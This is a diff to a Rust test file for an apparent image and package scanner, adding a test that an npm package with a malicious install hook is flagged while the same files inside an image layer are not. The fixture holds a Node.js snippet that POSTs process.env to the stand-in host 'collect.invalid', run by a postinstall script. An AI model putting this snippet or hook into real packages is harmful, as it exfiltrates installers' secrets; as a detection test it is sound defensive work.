@@ -98,8 +98,11 @@ fn saved() -> Vec<u8> {
     ])
 }
 
+/// How a layer is compressed.
+type Pack = fn(&[u8]) -> Vec<u8>;
+
 /// What tools write as an OCI archive, with a prefix for what a folder is packed under.
-fn oci(prefix: &str, pack: &[fn(&[u8]) -> Vec<u8>; 2]) -> Vec<u8> {
+fn oci(prefix: &str, pack: &[Pack; 2]) -> Vec<u8> {
     let layers = [base(), upper()];
     let packed: Vec<Vec<u8>> = layers.iter().zip(pack).map(|(layer, pack)| pack(layer)).collect();
     let config = config(&[&layers[0], &layers[1]]);
@@ -252,4 +255,24 @@ fn layers_that_are_missing_or_damaged_are_gaps() {
 fn an_account_without_a_distribution_says_so_by_its_package_url() {
     let layer = tar::archive(&[tar::file("var/lib/dpkg/status", &status(&[("a", "1", "a")]))]);
     assert_eq!(purls(&look_as_layer(&layer), false), ["pkg:deb/a@1?arch=amd64"]);
+}
+
+#[test]
+fn what_code_does_is_judged_outside_of_layers_only() {
+    let steals = b"const h=require('https');const r=h.request({host:'collect.invalid',method:'POST'});r.write(JSON.stringify(process.env));r.end();\n";
+    let manifest = br#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node steal.js"}}"#;
+    let layer = tar::archive(&[
+        tar::file("srv/package.json", manifest),
+        tar::file("srv/steal.js", steals),
+        tar::file("etc/os-release", DEBIAN),
+    ]);
+    assert_eq!(look_as_layer(&layer).verdict, Verdict::Clean);
+    // A package that pretends to be an archive of images stays one.
+    let package = tar::archive(&[
+        tar::file("package/oci-layout", b"{}"),
+        tar::file("package/blobs/sha256/aa", b"x"),
+        tar::file("package/package.json", manifest),
+        tar::file("package/steal.js", steals),
+    ]);
+    assert_eq!(look("a-1.0.0", &package).verdict, Verdict::Malicious);
 }
